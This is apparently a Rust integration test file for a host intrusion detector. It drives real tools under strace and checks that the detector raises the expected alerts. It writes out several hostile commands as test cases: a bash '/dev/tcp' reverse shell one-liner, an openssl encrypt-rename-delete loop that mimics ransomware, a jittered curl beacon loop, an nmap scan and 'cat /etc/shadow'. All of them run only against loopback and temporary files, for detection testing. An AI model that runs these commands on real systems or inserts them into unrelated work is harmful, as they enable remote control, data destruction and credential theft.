//! The detectors against what real tools really do: the tools run here, `strace -f` records
//! their system calls (what the kernel sensor reports), and those become events.
//!
//! Covered: an `openssl enc` + `mv` + `rm` loop over real files, a bash `/dev/tcp` reverse
//! shell to a listener on loopback, a jittered `curl` loop against a local HTTP server, an
//! `nmap -sT` scan of loopback; and on the benign side a `cp -r` and `tar` round trip of many
//! files. Needs strace, openssl, curl and nmap (Debian packages of the same names); without
//! them a test fails with NOT RUN.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{IpAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use heir_detect::beacon::{self, Beacon};
use heir_detect::{Config, Detector, Engine, ManualClock};
use heir_model::event::{Ancestor, ProcessInfo};
use heir_model::{Alert, Category, Event, EventKind, NetAddr, Process, Timestamp};

fn have(tool: &str) -> bool {
    Command::new("sh")
        .arg("-c")
        .arg(format!("command -v {tool}"))
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// The tools a test drives. A missing tool fails the test: a test that cannot run says so
/// and never passes (`cargo xtask setup` installs them all).
fn tools(list: &[&str]) -> bool {
    let missing: Vec<&&str> = list.iter().filter(|t| !have(t)).collect();
    assert!(
        missing.is_empty(),
        "NOT RUN: {missing:?} not installed (run `cargo xtask setup`)"
    );
    true
}

/// Runs `script` under `bash -c` with strace following children; returns the events.
fn traced(script: &str, dir: &Path, timeout: Duration) -> Vec<Event> {
    let out = dir.join("strace.txt");
    let mut child = Command::new("strace")
        .args(["-f", "-qq", "-ttt", "-s", "4096", "-e", "trace=execve,openat,rename,renameat,renameat2,unlink,unlinkat,connect,clone,clone3,vfork,fork", "-o"])
        .arg(&out)
        .args(["bash", "-c", script])
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("strace starts");
    let start = Instant::now();
    loop {
        if child.try_wait().expect("wait").is_some() {
            break;
        }
        if start.elapsed() > timeout {
            let _ = child.kill();
            let _ = child.wait();
            panic!("traced script did not finish within {timeout:?}: {script}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let text = std::fs::read_to_string(&out).expect("strace output");
    parse(&text)
}

/// A strace quoted string starting at `s` (just after the opening quote); returns it and the
/// rest after the closing quote.
fn quoted(s: &str) -> Option<(String, &str)> {
    let mut out = String::new();
    let mut chars = s.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return Some((out, &s[i + 1..])),
            '\\' => match chars.next()?.1 {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                c => out.push(c),
            },
            c => out.push(c),
        }
    }
    None
}

fn strings(s: &str) -> Vec<String> {
    let mut v = Vec::new();
    let mut rest = s;
    while let Some(i) = rest.find('"') {
        let Some((q, r)) = quoted(&rest[i + 1..]) else {
            break;
        };
        v.push(q);
        rest = r;
    }
    v
}

fn ret(line: &str) -> Option<i64> {
    let r = line.rsplit_once(") = ")?.1;
    let mut it = r.split_whitespace();
    let n: i64 = it.next()?.parse().ok()?;
    if n >= 0 {
        return Some(n);
    }
    Some(match it.next()? {
        "ENOENT" => -2,
        "EACCES" => -13,
        "EEXIST" => -17,
        "ECONNREFUSED" => -111,
        "EINPROGRESS" => -115,
        _ => -1,
    })
}

fn open_flags(args: &str) -> u32 {
    let mut f = 0;
    for (name, bit) in [
        ("O_WRONLY", 0o1),
        ("O_RDWR", 0o2),
        ("O_CREAT", 0o100),
        ("O_TRUNC", 0o1000),
        ("O_APPEND", 0o2000),
    ] {
        if args.contains(name) {
            f |= bit;
        }
    }
    f
}

/// strace -f -ttt lines to events, with parent links from clone results.
fn parse(text: &str) -> Vec<Event> {
    let mut parent: HashMap<u32, u32> = HashMap::new();
    let mut exe: HashMap<u32, String> = HashMap::new();
    let mut pending: HashMap<u32, String> = HashMap::new();
    let mut events = Vec::new();
    for raw in text.lines() {
        // `PID  SECONDS.MICROS call(args) = ret`, columns padded with spaces.
        let Some((pid, r)) = raw.trim_start().split_once(' ') else {
            continue;
        };
        let Some((ts, rest)) = r.trim_start().split_once(' ') else {
            continue;
        };
        let Ok(pid) = pid.trim().parse::<u32>() else {
            continue;
        };
        let Ok(ts) = ts.parse::<f64>() else { continue };
        let line = if let Some(head) = rest.strip_suffix(" <unfinished ...>") {
            pending.insert(pid, head.to_owned());
            continue;
        } else if rest.starts_with("<... ") {
            let Some(head) = pending.remove(&pid) else {
                continue;
            };
            let tail = rest.split_once("resumed>").map_or("", |x| x.1);
            format!("{head}{tail}")
        } else {
            rest.to_owned()
        };
        let Some((call, args)) = line.split_once('(') else {
            continue;
        };
        let Some(r) = ret(&line) else { continue };
        if matches!(call, "clone" | "clone3" | "vfork" | "fork") {
            if r > 0 {
                parent.insert(r as u32, pid);
                if let Some(e) = exe.get(&pid).cloned() {
                    exe.insert(r as u32, e);
                }
            }
            continue;
        }
        let s = strings(args);
        let kind = match call {
            "execve" if r == 0 => {
                let filename = s.first().cloned().unwrap_or_default();
                exe.insert(pid, filename.clone());
                let argv_part = args
                    .split_once('[')
                    .and_then(|(_, a)| a.split_once(']'))
                    .map_or("", |x| x.0);
                EventKind::Exec {
                    filename,
                    argv: strings(argv_part),
                    argv_truncated: false,
                    ret: 0,
                }
            }
            "openat" => EventKind::Open {
                path: s.first().cloned().unwrap_or_default(),
                flags: open_flags(args),
                ret: r,
            },
            "rename" | "renameat" | "renameat2" if s.len() >= 2 => EventKind::Rename {
                from: s[0].clone(),
                to: s[1].clone(),
                ret: r,
            },
            "unlink" | "unlinkat" => EventKind::Unlink {
                path: s.first().cloned().unwrap_or_default(),
                ret: r,
            },
            "connect" if args.contains("AF_INET") => {
                let port = args
                    .split_once("htons(")
                    .and_then(|(_, p)| p.split_once(')'))
                    .and_then(|(p, _)| p.parse().ok())
                    .unwrap_or(0);
                let ip: IpAddr = args
                    .split_once("inet_addr(\"")
                    .and_then(|(_, a)| a.split_once('"'))
                    .and_then(|(a, _)| a.parse().ok())
                    .unwrap_or([0, 0, 0, 0].into());
                EventKind::Connect {
                    addr: NetAddr::Inet { ip, port },
                    ret: r,
                }
            }
            _ => continue,
        };
        let ppid = parent.get(&pid).copied().unwrap_or(1);
        let me = exe
            .get(&pid)
            .cloned()
            .unwrap_or_else(|| "/usr/bin/bash".into());
        let parent_exe = exe
            .get(&ppid)
            .cloned()
            .unwrap_or_else(|| "/usr/bin/bash".into());
        let process = Process {
            pid,
            tid: pid,
            ppid,
            uid: 0,
            euid: 0,
            gid: 0,
            comm: me
                .rsplit('/')
                .next()
                .unwrap_or(&me)
                .chars()
                .take(15)
                .collect(),
            cgroup: 0,
            info: Some(Arc::new(ProcessInfo {
                exe: Some(me),
                args: Vec::new(),
                started: None,
                lineage: vec![Ancestor {
                    pid: ppid,
                    exe: parent_exe,
                }],
            })),
        };
        events.push(Event {
            ts: Timestamp::from_nanos((ts * 1e9) as u64),
            process,
            kind,
        });
    }
    events
}

fn engine() -> Engine {
    let mut e = Engine::new(
        &Config::default(),
        Arc::new(ManualClock::new(Timestamp::now())),
    );
    e.reload_rules(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules"))
        .expect("shipped rules");
    e
}

fn run(events: &[Event]) -> Vec<Alert> {
    let mut e = engine();
    let mut out = Vec::new();
    for ev in events {
        e.process(ev, &mut out);
    }
    out
}

/// A private directory, removed when the guard drops (also when a test fails).
fn tempdir() -> (tempfile::TempDir, PathBuf) {
    let t = tempfile::Builder::new()
        .prefix("heir-detect-")
        .tempdir()
        .expect("tempdir");
    let p = t.path().to_path_buf();
    (t, p)
}

#[test]
fn openssl_enc_loop_over_real_files_is_one_ransomware_incident() {
    if !tools(&["strace", "openssl"]) {
        return;
    }
    let (_guard, dir) = tempdir();
    let docs = dir.join("reports");
    std::fs::create_dir(&docs).unwrap();
    for i in 0..30 {
        std::fs::write(
            docs.join(format!("report-{i:02}.txt")),
            format!("ward 3 report {i}\n").repeat(20),
        )
        .unwrap();
    }
    let script = format!(
        "for f in {}/*.txt; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in \"$f\" -out \"$f.enc\" && mv \"$f.enc\" \"$f.locked\" && rm \"$f\"; done",
        docs.display()
    );
    let events = traced(&script, &dir, Duration::from_secs(60));
    let locked = std::fs::read_dir(&docs)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "locked")
        })
        .count();
    assert_eq!(locked, 30, "the tools really encrypted the files");
    let alerts = run(&events);
    let ransomware: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.category == Category::Ransomware)
        .collect();
    assert_eq!(ransomware.len(), 1, "{alerts:#?}");
    assert!(
        ransomware[0]
            .evidence
            .iter()
            .any(|e| e.contains(".locked") || e.contains(".enc")),
        "{:?}",
        ransomware[0].evidence
    );
    assert!(alerts.len() <= 2, "{alerts:#?}");
}

#[test]
fn copying_and_archiving_many_files_is_quiet() {
    if !tools(&["strace", "tar"]) {
        return;
    }
    let (_guard, dir) = tempdir();
    let src = dir.join("src");
    std::fs::create_dir(&src).unwrap();
    for i in 0..200 {
        std::fs::write(src.join(format!("f{i:03}.dcm")), b"DICM").unwrap();
    }
    let script = format!(
        "cd {d} && cp -r src copy && tar -cf a.tar src && mkdir x && tar -xf a.tar -C x && rm -r copy && sed -i.bak s/DICM/DICN/ src/f001.dcm",
        d = dir.display()
    );
    let events = traced(&script, &dir, Duration::from_secs(60));
    assert!(events.len() > 400, "{} events", events.len());
    let alerts = run(&events);
    assert!(alerts.is_empty(), "{alerts:#?}");
}

#[test]
fn bash_dev_tcp_reverse_shell_to_a_loopback_listener() {
    if !tools(&["strace"]) {
        return;
    }
    let (_guard, dir) = tempdir();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let attacker = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(b"id\nexit\n").unwrap();
        let mut got = Vec::new();
        let _ = s.read_to_end(&mut got);
        String::from_utf8_lossy(&got).into_owned()
    });
    let events = traced(
        &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        &dir,
        Duration::from_secs(20),
    );
    let transcript = attacker.join().unwrap();
    assert!(
        transcript.contains("uid=0"),
        "the shell really answered over the socket: {transcript:?}"
    );
    let alerts = run(&events);
    let rs: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.category == Category::ReverseShell)
        .collect();
    assert!(!rs.is_empty(), "{alerts:#?}");
    assert!(
        rs.iter()
            .any(|a| a.evidence.iter().any(|e| e.contains("/dev/tcp"))),
        "{rs:#?}"
    );
}

#[test]
fn jittered_curl_loop_is_a_beacon_with_its_period() {
    if !tools(&["strace", "curl"]) {
        return;
    }
    let (_guard, dir) = tempdir();
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let served = std::thread::spawn(move || {
        server.set_nonblocking(true).unwrap();
        let start = Instant::now();
        let mut n = 0;
        while start.elapsed() < Duration::from_secs(40) && n < 20 {
            match server.accept() {
                Ok((mut s, _)) => {
                    s.set_nonblocking(false).unwrap();
                    s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
                    let mut buf = [0u8; 1024];
                    let _ = s.read(&mut buf);
                    let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
                    n += 1;
                }
                Err(_) => std::thread::sleep(Duration::from_millis(5)),
            }
        }
        n
    });
    // 20 beats every ~0.5 s ± 10% (plus curl's own run time and scheduling noise).
    let script = format!(
        "for i in $(seq 20); do curl -s -o /dev/null http://127.0.0.1:{port}/t; sleep 0.$((45 + RANDOM % 10)); done"
    );
    let events = traced(&script, &dir, Duration::from_secs(40));
    assert_eq!(served.join().unwrap(), 20, "every beat reached the server");
    // Loopback is internal by default; here it stands in for the outside C2 host.
    let mut d = Beacon::new(beacon::Config {
        internal: Vec::new(),
        min_period_secs: 0.1,
        merge_ms: 50,
        ..beacon::Config::default()
    });
    let beats: Vec<&Event> = events
        .iter()
        .filter(|e| matches!(&e.kind, EventKind::Connect { addr: NetAddr::Inet { port: p, .. }, .. } if *p == port))
        .collect();
    let mut alerts = Vec::new();
    for ev in &beats {
        d.inspect(ev, &mut alerts);
    }
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    // The period the loop really had: the median gap between its connects. It is the sleep plus
    // curl's own run time under strace, which grows when the machine is busy, so the detector is
    // held to what happened, not to a figure for an idle machine.
    let mut gaps: Vec<f64> = beats
        .windows(2)
        .map(|w| w[1].ts.saturating_sub(w[0].ts).as_secs_f64())
        .collect();
    gaps.sort_by(f64::total_cmp);
    let actual = gaps[gaps.len() / 2];
    let e = &alerts[0].evidence[0];
    let period: f64 = e
        .split_whitespace()
        .nth(1)
        .unwrap()
        .trim_end_matches('s')
        .parse()
        .unwrap();
    assert!(
        (0.45..2.0).contains(&actual),
        "the loop sleeps 0.45-0.55 s between beats; gaps {gaps:?}"
    );
    assert!(
        (period - actual).abs() <= 0.15 * actual + 0.05,
        "period {period}s, but the connects came every {actual:.3}s (median gap): {e}"
    );
    assert!(
        alerts[0].evidence.iter().any(|e| e.contains("curl")),
        "{:?}",
        alerts[0].evidence
    );
}

#[test]
fn nmap_connect_scan_from_this_host_is_a_port_scan() {
    if !tools(&["strace", "nmap"]) {
        return;
    }
    let (_guard, dir) = tempdir();
    let events = traced(
        "nmap -sT -Pn -n -p 1-200 --max-retries 0 127.0.0.1",
        &dir,
        Duration::from_secs(60),
    );
    let connects = events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::Connect { .. }))
        .count();
    assert!(connects >= 200, "{connects} connects traced");
    let alerts = run(&events);
    let scans: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.category == Category::PortScan)
        .collect();
    assert_eq!(scans.len(), 1, "{alerts:#?}");
    assert_eq!(scans[0].rule, "net.host_side_port_probe");
    assert_eq!(scans[0].comm.as_deref(), Some("nmap"));
}

#[test]
fn reading_shadow_by_hand_fires_an_account_audit_does_not() {
    if !tools(&["strace", "chage", "pwck"]) {
        return;
    }
    let (_guard, dir) = tempdir();
    let audit = traced(
        "chage -l root >/dev/null; pwck -r -q >/dev/null 2>&1; true",
        &dir,
        Duration::from_secs(30),
    );
    assert!(
        audit.iter().any(|e| matches!(&e.kind, EventKind::Open { path, ret, .. } if path == "/etc/shadow" && *ret >= 0)),
        "the audit tools really read /etc/shadow"
    );
    let alerts = run(&audit);
    assert!(alerts.is_empty(), "{alerts:#?}");
    let theft = traced("cat /etc/shadow >/dev/null", &dir, Duration::from_secs(30));
    let alerts = run(&theft);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].category, Category::CredentialAccess);
    assert_eq!(alerts[0].comm.as_deref(), Some("cat"));
}
